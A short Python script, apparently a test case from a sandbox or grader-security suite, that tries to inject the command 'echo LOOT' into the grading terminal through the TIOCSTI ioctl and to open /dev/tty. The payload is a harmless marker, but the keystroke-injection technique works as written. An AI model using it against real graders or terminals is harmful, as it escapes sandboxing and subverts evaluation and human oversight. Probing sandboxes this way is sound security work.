"""Types into the terminal of whoever grades.

most: 0
control: no
"""

import fcntl, os

for number in (0, 1, 2):
    for character in b'echo LOOT\n':
        try:
            fcntl.ioctl(number, 0x5412, bytes([character]))  # TIOCSTI
            print('LOOT typed')
        except OSError:
            pass
try:
    print('LOOT', os.open('/dev/tty', os.O_RDWR))
except OSError:
    pass
